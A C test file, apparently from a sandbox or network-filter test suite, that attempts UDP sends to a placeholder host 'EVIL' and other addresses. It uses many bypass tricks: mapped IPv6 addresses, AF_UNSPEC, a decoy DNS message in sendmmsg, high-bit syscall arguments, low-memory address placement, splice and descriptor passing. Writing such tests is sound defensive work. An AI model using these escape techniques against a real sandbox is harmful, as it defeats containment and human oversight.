/* Attempts to send datagrams, in the world of hosts.c. A socket of UDP leads to the supervisor there, which reads questions for names, and no more. */
#include "hosts.h"
#include <poll.h>

void answered(int fd)
{
    struct pollfd one = { fd, POLLIN, 0 };
    errno = ETIMEDOUT;
    if (poll(&one, 1, patient() ? 10000 : 50) != 1 || recv(fd, buffer, sizeof buffer, 0) < 0) refused("answer");
    worked();
}

static int udp(int family) { return need("socket", socket(family, SOCK_DGRAM, 0)); }
static void sends_to(int fd, const void *to, socklen_t length) { need("sendto", sendto(fd, "x", 1, MSG_NOSIGNAL, to, length)); answered(fd); }

static void a_datagram(void) { struct sockaddr_in to = at(EVIL, 9999); sends_to(udp(AF_INET), &to, sizeof to); }
static void a_datagram6(void) { struct sockaddr_in6 to = at6("fd00:9::3", 9999); sends_to(udp(AF_INET6), &to, sizeof to); }
static void a_datagram_mapped(void) { struct sockaddr_in6 to = at6("::ffff:" EVIL, 9999); sends_to(udp(AF_INET6), &to, sizeof to); }
static void a_datagram_no_family(void) { struct sockaddr_in to = at(EVIL, 9999); to.sin_family = AF_UNSPEC; sends_to(udp(AF_INET), &to, sizeof to); }
static void a_datagram_allowed_host(void) { struct sockaddr_in to = at(ALLOWED, 82); to.sin_port = htons(9999); sends_to(udp(AF_INET), &to, sizeof to); }
static void a_datagram_server_port(void) { struct sockaddr_in to = at(SERVER, 9999); sends_to(udp(AF_INET), &to, sizeof to); }
static void a_datagram_loopback(void) { struct sockaddr_in to = at("127.0.0.1", 9999); sends_to(udp(AF_INET), &to, sizeof to); }
static void a_datagram_multicast(void)
{
    struct sockaddr_in to = at("239.9.9.9", 9999);
    need("sendto", sendto(udp(AF_INET), "x", 1, MSG_NOSIGNAL, (struct sockaddr *)&to, sizeof to));
    worked();
}
static int connected(const char *address)
{
    struct sockaddr_in to = at(address, 9999);
    int fd = udp(AF_INET);
    need("connect", connect(fd, (struct sockaddr *)&to, sizeof to));
    return fd;
}
static void a_datagram_send(void) { int fd = connected(EVIL); need("send", send(fd, "x", 1, MSG_NOSIGNAL)); answered(fd); }
static void a_datagram_write(void) { int fd = connected(EVIL); need("write", write(fd, "x", 1)); answered(fd); }
static void a_datagram_writev(void) { int fd = connected(EVIL); struct iovec data = { "x", 1 }; need("writev", writev(fd, &data, 1)); answered(fd); }
static void a_datagram_splice(void)
{
    int fd = connected(EVIL), ends[2];
    need("pipe", pipe(ends));
    write(ends[1], "x", 1);
    need("splice", splice(ends[0], NULL, fd, NULL, 1, 0));
    answered(fd);
}
static void a_datagram_message(void)
{
    struct sockaddr_in to = at(EVIL, 9999);
    struct iovec data = { "x", 1 };
    struct msghdr message = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &data, .msg_iovlen = 1 };
    int fd = udp(AF_INET);
    need("sendmsg", sendmsg(fd, &message, MSG_NOSIGNAL));
    answered(fd);
}
static void a_datagram_messages(void)
{
    /* The first is for the name server, and no question. */
    struct sockaddr_in server = at(SERVER, 53), to = at(EVIL, 9999);
    struct iovec data = { "x", 1 };
    struct mmsghdr messages[] = { { .msg_hdr = { &server, sizeof server, &data, 1 } }, { .msg_hdr = { &to, sizeof to, &data, 1 } } };
    int fd = udp(AF_INET);
    need("sendmmsg", sendmmsg(fd, messages, 2, MSG_NOSIGNAL));
    answered(fd);
}
static void a_datagram_high_bits(void)
{
    struct sockaddr_in to = at(EVIL, 9999);
    int fd = need("socket", syscall(SYS_socket, AF_INET | HIGH, SOCK_DGRAM | HIGH, HIGH));
    need("sendto", syscall(SYS_sendto, fd | HIGH, "x", 1, HIGH, &to, sizeof to | HIGH));
    answered(fd);
}
static void a_datagram_low_memory(void)
{
    /* An address in memory whose number's lower half is 0. */
    struct sockaddr_in *to = mmap((void *)(3 * HIGH), 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (to == MAP_FAILED) impossible("mmap");
    *to = at(EVIL, 9999);
    int fd = udp(AF_INET);
    need("sendto", sendto(fd, "x", 1, MSG_NOSIGNAL, (struct sockaddr *)to, sizeof *to));
    answered(fd);
}
/* To the kernel a pair of sockets, of which the other end is somebody's: no more can be had of it than what it was given for. */
static void a_datagram_reconnect(void)
{
    struct sockaddr_un to = { AF_UNIX, "/run/nscd/socket" };
    int fd = udp(AF_INET);
    need("connect", connect(fd, (struct sockaddr *)&to, sizeof to));
    worked();
}
static void a_datagram_rights(void)
{
    char control[CMSG_SPACE(sizeof(int))] = { 0 };
    struct iovec data = { "x", 1 };
    struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    int fd = connected(SERVER);
    *head = (struct cmsghdr){ .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS };
    memcpy(CMSG_DATA(head), &fd, sizeof fd);
    /* Taken or not, nobody gets the descriptor. */
    sendmsg(fd, &message, MSG_NOSIGNAL);
    answered(fd);
}

const struct attempt datagrams_attempts[] = {
    A(datagram), A(datagram6), A(datagram_mapped), A(datagram_no_family), A(datagram_allowed_host), A(datagram_server_port), A(datagram_loopback),
    A(datagram_multicast), A(datagram_send), A(datagram_write), A(datagram_writev), A(datagram_splice), A(datagram_message), A(datagram_messages),
    A(datagram_high_bits), A(datagram_low_memory), A(datagram_reconnect), A(datagram_rights),
    { NULL, NULL },
};
